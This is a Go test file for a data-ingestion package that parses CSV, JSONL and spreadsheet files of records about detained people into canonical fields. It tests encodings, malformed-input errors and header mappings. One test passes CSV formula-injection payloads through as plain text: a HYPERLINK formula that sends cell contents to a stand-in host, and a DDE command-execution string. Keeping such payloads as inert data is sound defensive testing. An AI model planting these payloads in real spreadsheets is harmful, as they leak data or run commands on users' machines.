package ingest_test

import (
	"bytes"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/paradero/paradero"
	"github.com/paradero/paradero/ingest"
)

// open reads a whole file with Open and Next.
func readAll(name string, data []byte, m *ingest.Mapping) (*ingest.Reader, []*paradero.Record, error) {
	r, err := ingest.Open(bytes.NewReader(data), int64(len(data)), ingest.Options{Filename: name, Mapping: m})
	if err != nil {
		return nil, nil, err
	}
	defer r.Close()
	var recs []*paradero.Record
	for {
		rec, err := r.Next()
		if err == io.EOF {
			return r, recs, nil
		}
		if err != nil {
			return r, recs, err
		}
		recs = append(recs, rec)
	}
}

func testFile(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// fields renders a record's non-empty content in canonical order, the way
// the ledger sees it, for comparison.
func fields(r *paradero.Record) string {
	return strings.TrimSuffix(string(r.Content()), "\n")
}

func TestEncodings(t *testing.T) {
	want := []string{
		"given_names\tJosé\nfirst_surname\tNúñez\nsecond_surname\tPeña\nbirth_date\t1990-03-15\nnationality\tVenezolana\nfacility\tCentro de Confinamiento del Terrorismo",
		"given_names\tMaría Ángeles\nfirst_surname\tGómez\nsecond_surname\tIbáñez\nbirth_date\t1985\nnationality\tSalvadoreña\nfacility\tCECOT",
	}
	for _, tc := range []struct{ file, enc string }{
		{"utf8.csv", "utf-8"},
		{"utf8-bom.csv", "utf-8-bom"},
		{"windows1252.csv", "windows-1252"},
		{"utf16le-bom.csv", "utf-16le"},
		{"utf16be-bom.csv", "utf-16be"},
	} {
		t.Run(tc.file, func(t *testing.T) {
			r, recs, err := readAll(tc.file, testFile(t, tc.file), nil)
			if err != nil {
				t.Fatal(err)
			}
			if r.Encoding() != tc.enc {
				t.Errorf("Encoding() = %q, want %q", r.Encoding(), tc.enc)
			}
			if r.Format() != "csv" || r.MediaType() != "text/csv" {
				t.Errorf("Format, MediaType = %q, %q, want csv, text/csv", r.Format(), r.MediaType())
			}
			if len(recs) != len(want) {
				t.Fatalf("got %d records, want %d", len(recs), len(want))
			}
			for i, rec := range recs {
				if got := fields(rec); got != want[i] {
					t.Errorf("record %d =\n%s\nwant\n%s", i, got, want[i])
				}
				if rec.Row != i+2 {
					t.Errorf("record %d: Row = %d, want %d", i, rec.Row, i+2)
				}
			}
		})
	}
}

func TestDelimiters(t *testing.T) {
	want := "given_names\tJuan\nsurnames\tPérez\nbirth_date\t1990-01-02"
	for _, tc := range []struct{ file, media string }{
		{"comma.csv", "text/csv"},
		{"semicolon.csv", "text/csv"},
		{"tab.tsv", "text/tab-separated-values"},
		{"pipe.txt", "text/csv"},
		{"cr-only.csv", "text/csv"},
		{"excel-sep.csv", "text/csv"},
	} {
		r, recs, err := readAll(tc.file, testFile(t, tc.file), nil)
		if err != nil {
			t.Errorf("%s: %v", tc.file, err)
			continue
		}
		if len(recs) != 1 || fields(recs[0]) != want {
			t.Errorf("%s: records %v, want one with\n%s", tc.file, recs, want)
		}
		if r.MediaType() != tc.media {
			t.Errorf("%s: MediaType() = %q, want %q", tc.file, r.MediaType(), tc.media)
		}
	}
}

// TestBadInput checks that every kind of broken file is refused with an
// *Error that says where and why.
func TestBadInput(t *testing.T) {
	long := "nombre,notas\nJuan," + strings.Repeat("x", paradero.MaxFieldBytes+1) + "\n"
	huge := "nombre,notas\nJuan,\"" + strings.Repeat("x", ingest.MaxRowBytes) + "\n"
	for _, tc := range []struct {
		name       string
		file       string // in testdata, or
		data       string // inline
		line, col  int
		reasonPart string
	}{
		{name: "empty", file: "empty.csv", reasonPart: "empty file"},
		{name: "blank lines only", file: "blank-lines.csv", reasonPart: "no header row"},
		{name: "header only", file: "header-only.csv", line: 1, reasonPart: "no records"},
		{name: "too many fields", file: "ragged-long.csv", line: 3, col: 8, reasonPart: "the row has 3 fields, the header 2"},
		{name: "too few fields", file: "ragged-short.csv", line: 3, reasonPart: "the row has 2 fields, the header 3"},
		{name: "unterminated quote", file: "unterminated-quote.csv", line: 2, col: 6, reasonPart: "never closed"},
		{name: "text after quote", file: "after-quote.csv", line: 2, col: 13, reasonPart: "after the closing quote"},
		{name: "binary", file: "binary.csv", line: 3, col: 1, reasonPart: "not a text file"},
		{name: "control character", data: "nombre\nJu\x07an\n", line: 2, col: 3, reasonPart: "control character 0x07"},
		{name: "mixed encodings", file: "mixed-encoding.csv", line: 3, col: 3, reasonPart: "mixes encodings"},
		{name: "no known encoding", file: "not-text.csv", line: 2, col: 1, reasonPart: "neither UTF-8 nor Windows-1252"},
		{name: "bom but not utf-8", data: "\xef\xbb\xbfnombre\nJos\xe9\n", line: 2, col: 4, reasonPart: "not UTF-8"},
		{name: "duplicate header", file: "duplicate-header.csv", line: 1, col: 13, reasonPart: `columns 2 and 3 of the header are both named "edad"`},
		{name: "empty header name", file: "empty-header.csv", line: 1, col: 8, reasonPart: "column 2 of the header has no name"},
		{name: "two columns one field", data: "nombre completo,full name\nJuan,Juan\n", line: 1, col: 17, reasonPart: "both go to field full_name"},
		{name: "no identity", file: "no-identity.csv", line: 3, reasonPart: "names no one"},
		{name: "impossible date", file: "bad-date.csv", line: 3, col: 5, reasonPart: "not a calendar date"},
		{name: "unparseable date", data: "nombre,dob\nJuan,ayer\n", line: 2, col: 6, reasonPart: `"ayer" is not a month name`},
		{name: "field too long", data: long, line: 2, col: 6, reasonPart: "over the limit of 65536"},
		{name: "row too long", data: huge, line: 2, reasonPart: "row is longer than"},
		{name: "old xls", file: "old.xls", reasonPart: "Excel 97–2003"},
		{name: "fake xlsx", file: "fake.xlsx", reasonPart: "not a workbook"},
		{name: "pdf", data: "%PDF-1.7\n...", reasonPart: "a PDF"},
		{name: "jsonl nested", file: "nested.jsonl", line: 2, col: 24, reasonPart: "is an array"},
		{name: "json array", file: "array.json", line: 1, col: 1, reasonPart: "a JSON array"},
		{name: "jsonl duplicate key", data: "{\"nombre\":\"a\",\"nombre\":\"b\"}\n", line: 1, col: 15, reasonPart: "appears twice"},
		{name: "jsonl broken", data: "{\"nombre\":\"a\"}\n{\"nombre\":\"b\",}\n", line: 2, col: 15, reasonPart: "invalid JSON"},
		{name: "jsonl unclosed", data: "{\"nombre\":\"a\"\n", line: 1, col: 14, reasonPart: "not closed"},
		{name: "jsonl trailing text", data: "{\"nombre\":\"a\"} x\n", line: 1, col: 16, reasonPart: "text after the object"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			data, name := []byte(tc.data), "inline.csv"
			if tc.file != "" {
				data, name = testFile(t, tc.file), tc.file
			} else if strings.HasPrefix(tc.data, "{") {
				name = "inline.jsonl"
			}
			_, _, err := readAll(name, data, nil)
			var e *ingest.Error
			if !errors.As(err, &e) {
				t.Fatalf("error = %v (%T), want an *ingest.Error", err, err)
			}
			if e.File != name || e.Line != tc.line || e.Column != tc.col || !strings.Contains(e.Reason, tc.reasonPart) {
				t.Errorf("error = %q (line %d, column %d), want %s:%d:%d and a reason with %q", err, e.Line, e.Column, name, tc.line, tc.col, tc.reasonPart)
			}
			if paradero.ErrorCode(err) != paradero.EINVALID || paradero.ErrorMessage(err) != err.Error() {
				t.Errorf("ErrorCode, ErrorMessage = %q, %q; want %q and the error text", paradero.ErrorCode(err), paradero.ErrorMessage(err), paradero.EINVALID)
			}
		})
	}
}

// TestFaithful checks that values pass unchanged: formulas stay text,
// right-to-left text, combining characters and very long names are kept byte
// for byte.
func TestFaithful(t *testing.T) {
	_, recs, err := readAll("formulas.csv", testFile(t, "formulas.csv"), nil)
	if err != nil {
		t.Fatal(err)
	}
	want := [][3]string{
		{`=HYPERLINK("http://x.test/?q="&A1;"ver")`, "+1 555 0100", "@SUM(A1:A9)"},
		{"-Juan", "=1+1", `=cmd|' /C calc'!A0`},
	}
	for i, rec := range recs {
		got := [3]string{rec.FullName, rec.Notes, rec.Extra[0].Value}
		if got != want[i] {
			t.Errorf("formulas row %d = %q, want %q", i, got, want[i])
		}
	}

	data := testFile(t, "rtl-combining.csv")
	_, recs, err = readAll("rtl-combining.csv", data, nil)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")[1:]
	for i, rec := range recs {
		name, notes, _ := strings.Cut(lines[i], ",")
		if rec.FullName != name || rec.Notes != notes {
			t.Errorf("row %d = %q, %q; want %q, %q (byte for byte)", i, rec.FullName, rec.Notes, name, notes)
		}
	}

	name := strings.Repeat("Nombre Largo ", 770)[:10000]
	file := "nombre,notas\n\"" + name + "\",\" dos  espacios \"\n"
	_, recs, err = readAll("long.csv", []byte(file), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1 || recs[0].FullName != name || recs[0].Notes != " dos  espacios " {
		t.Errorf("a 10 000-character name or spaces were not kept")
	}
}

func TestRowsAndExtras(t *testing.T) {
	file := "Nombre,Apellidos,Foto,Alias,,\r\n" +
		"\r\n" +
		"Juan,\"Pérez\r\nGarcía\",f.jpg,,,\r\n" +
		",,,,,\r\n" +
		"Ana,López,,\"El \"\"Flaco\"\"\",,\r\n"
	r, recs, err := readAll("x.csv", []byte(file), &ingest.Mapping{Columns: map[string]string{"foto": "ignore"}})
	if err != nil {
		t.Fatal(err)
	}
	cols := r.Columns()
	wantCols := []ingest.Column{
		{Name: "Nombre", Key: "given_names"},
		{Name: "Apellidos", Key: "surnames"},
		{Name: "Foto", Key: "ignore", Mapped: true},
		{Name: "Alias", Key: "x:Alias"},
	}
	if len(cols) != len(wantCols) {
		t.Fatalf("Columns() = %v, want %v", cols, wantCols)
	}
	for i := range cols {
		if cols[i] != wantCols[i] {
			t.Errorf("Columns()[%d] = %v, want %v", i, cols[i], wantCols[i])
		}
	}
	if len(recs) != 2 {
		t.Fatalf("got %d records, want 2", len(recs))
	}
	if recs[0].Row != 3 || recs[0].Surnames != "Pérez\r\nGarcía" || len(recs[0].Extra) != 0 {
		t.Errorf("record 1 = row %d %q %v", recs[0].Row, recs[0].Surnames, recs[0].Extra)
	}
	if recs[1].Row != 6 || len(recs[1].Extra) != 1 || recs[1].Extra[0] != (paradero.Field{Name: "Alias", Value: `El "Flaco"`}) {
		t.Errorf("record 2 = row %d %v", recs[1].Row, recs[1].Extra)
	}
}

func TestHeaders(t *testing.T) {
	for _, tc := range []struct{ header, key string }{
		{"Nombre Completo", "full_name"}, {"NOMBRES", "given_names"}, {"nombre_completo", "full_name"},
		{"Apellidos", "surnames"}, {"Primer Apellido", "first_surname"}, {"apellido paterno", "first_surname"},
		{"Segundo apellido", "second_surname"}, {"Apellido Materno", "second_surname"},
		{"Fecha de Nacimiento", "birth_date"}, {"F. Nac.", "birth_date"}, {"fecha_nacimiento", "birth_date"},
		{"Edad", "age"}, {"Sexo", "sex"}, {"Género", "sex"}, {"GENERO", "sex"},
		{"Nacionalidad", "nationality"}, {"País de Nacimiento", "country_of_birth"}, {"pais_de_nacimiento", "country_of_birth"},
		{"Número A", "a_number"}, {"a_number", "a_number"}, {"Alien Number", "a_number"}, {"A#", "a_number"}, {"A-Number", "a_number"},
		{"Pasaporte", "passport"}, {"Documento", "other_documents"}, {"Estado", "status"}, {"Situación", "status"},
		{"Centro de Detención", "facility"}, {"Facility", "facility"}, {"Lugar", "place"}, {"Custodio", "custodian"},
		{"Fecha", "event_from"}, {"Vuelo", "flight"}, {"Flight", "flight"}, {"Observaciones", "notes"}, {"Notes", "notes"},
		{"given_names", "given_names"}, {"First Name", "given_names"}, {"Surname", "surnames"}, {"Last Name", "surnames"},
		{"DOB", "birth_date"}, {"Date of Birth", "birth_date"}, {"Country of Birth", "country_of_birth"},
		{"full_name", "full_name"}, {"first_surname", "first_surname"}, {"second_surname", "second_surname"},
		{"event_from", "event_from"}, {"event_to", "event_to"}, {"other_documents", "other_documents"},
		{"  Observaciones  ", "notes"}, {"Color de ojos", "x:Color de ojos"},
	} {
		file := tc.header + ",pasaporte\nx,P1\n"
		if tc.key == "passport" {
			file = tc.header + ",nombre\nP1,x\n"
		}
		r, err := ingest.Open(strings.NewReader(file), int64(len(file)), ingest.Options{Filename: "h.csv"})
		if err != nil {
			t.Errorf("%q: %v", tc.header, err)
			continue
		}
		if got := r.Columns()[0].Key; got != tc.key {
			t.Errorf("header %q maps to %q, want %q", tc.header, got, tc.key)
		}
	}
	// "nombre" alone is the full name; beside a surname column, the given names.
	for _, tc := range []struct{ header, key string }{
		{"nombre,edad", "full_name"}, {"nombre,apellidos", "given_names"},
		{"Name,DOB", "full_name"}, {"Name,Surname", "given_names"}, {"nombre,apellido materno", "given_names"},
	} {
		file := tc.header + "\nx,y\n"
		r, err := ingest.Open(strings.NewReader(file), int64(len(file)), ingest.Options{Filename: "h.csv"})
		if err != nil {
			t.Fatal(err)
		}
		if got := r.Columns()[0].Key; got != tc.key {
			t.Errorf("in %q, the first column maps to %q, want %q", tc.header, got, tc.key)
		}
	}
}

func TestJSONLines(t *testing.T) {
	r, recs, err := readAll("records.jsonl", testFile(t, "records.jsonl"), nil)
	if err != nil {
		t.Fatal(err)
	}
	if r.Format() != "jsonl" || r.MediaType() != "application/jsonl" {
		t.Errorf("Format, MediaType = %q, %q", r.Format(), r.MediaType())
	}
	want := []string{
		"given_names\tJuan\nsurnames\tPérez\nbirth_date\t1990-01-02\nage\t34\nx:detenido\ttrue",
		"full_name\tAna López\na_number\tA123456789\nflight\tN123",
	}
	if len(recs) != len(want) {
		t.Fatalf("got %d records, want %d", len(recs), len(want))
	}
	for i, rec := range recs {
		if got := fields(rec); got != want[i] {
			t.Errorf("record %d =\n%s\nwant\n%s", i, got, want[i])
		}
	}
	if recs[1].Row != 3 {
		t.Errorf("Row = %d, want 3 (after a blank line)", recs[1].Row)
	}
}

func TestMappingOverrides(t *testing.T) {
	f, err := os.Open(filepath.Join("testdata", "mapping.json"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	m, err := ingest.ParseMapping(f)
	if err != nil {
		t.Fatal(err)
	}
	r, recs, err := readAll("mapped.csv", testFile(t, "mapped.csv"), m)
	if err != nil {
		t.Fatal(err)
	}
	if r.Encoding() != "windows-1252" {
		t.Errorf("Encoding() = %q", r.Encoding())
	}
	want := "full_name\tJosé Núñez\nstatus\tDetenido\nevent_from\t2025-03-15\nx:observaciones internas\ttraslado"
	if len(recs) != 1 || fields(recs[0]) != want {
		t.Fatalf("records = %v, want one with\n%s", recs, want)
	}

	// A mapping naming a column the file lacks is refused.
	_, _, err = readAll("mapped.csv", testFile(t, "mapped.csv"), &ingest.Mapping{Columns: map[string]string{"Nombre": "full_name"}})
	if err == nil || !strings.Contains(err.Error(), `the mapping names column "Nombre"`) {
		t.Errorf("mapping with an absent column: error = %v", err)
	}
	// A mapping saying UTF-8 for a Windows-1252 file says where it fails.
	_, _, err = readAll("mapped.csv", testFile(t, "mapped.csv"), &ingest.Mapping{Encoding: "utf-8"})
	if err == nil || err.Error() != "mapped.csv:2:4: byte 0xE9 is not UTF-8, though the mapping says the file is UTF-8" {
		t.Errorf("wrong encoding: error = %v", err)
	}
}

func TestParseMappingErrors(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{``, "mapping:1:1: invalid JSON: the file ends early"},
		{`[]`, "mapping:1:1: the mapping must be a JSON object"},
		{"{\n  \"columns\": {\"A\": \"full_nam\"}\n}", `mapping:2:20: column "A": "full_nam" is not a field key`},
		{"{\n\"date_order\": \"DDMMYY\"}", `mapping:2:15: date order "DDMMYY" is not DMY, MDY or YMD`},
		{`{"delimiter": "ab"}`, `mapping:1:15: delimiter "ab" is not one character`},
		{`{"delimiter": "x"}`, `mapping:1:15: delimiter 'x' cannot separate fields`},
		{`{"encoding": "klingon"}`, `mapping:1:14: encoding "klingon" is not known`},
		{`{"format": "xls"}`, `mapping:1:12: format "xls" is not csv, xlsx or jsonl`},
		{`{"colums": {}}`, `mapping:1:2: unknown key "colums"`},
		{`{"sheet": "a", "sheet": "b"}`, `mapping:1:16: "sheet" appears twice`},
		{`{"columns": {"A": "ignore", "A": "notes"}}`, `mapping:1:29: column "A" appears twice`},
		{`{"columns": {"": "notes"}}`, `mapping:1:14: a column with an empty name`},
		{`{"columns": {"A": 3}}`, `mapping:1:19: the key of column "A" must be a string`},
		{`{"columns": {"A": "x:"}}`, `mapping:1:19: column "A": "x:" names no extra field`},
		{`{} {}`, `mapping:1:4: text after the mapping object`},
		{`{"sheet": "a",}`, `mapping:1:15: invalid JSON`},
		{"{\"sheet\": \"\xff\"}", `mapping:1:12: mapping file is not UTF-8`},
	} {
		_, err := ingest.ParseMapping(strings.NewReader(tc.in))
		if err == nil || !strings.HasPrefix(err.Error(), tc.want) {
			t.Errorf("ParseMapping(%q) error = %v, want it to start %q", tc.in, err, tc.want)
		}
	}
	m, err := ingest.ParseMapping(strings.NewReader(`{"delimiter": "tab", "sheet": "Hoja 2", "format": "xlsx", "columns": {"X": "x:Equis", "Y": "ignore", "Z": "a_number"}}`))
	if err != nil {
		t.Fatal(err)
	}
	if m.Delimiter != '\t' || m.Sheet != "Hoja 2" || m.Format != "xlsx" || m.DateOrder != ingest.DMY || len(m.Columns) != 3 || m.Columns["X"] != "x:Equis" {
		t.Errorf("ParseMapping = %+v", m)
	}
}
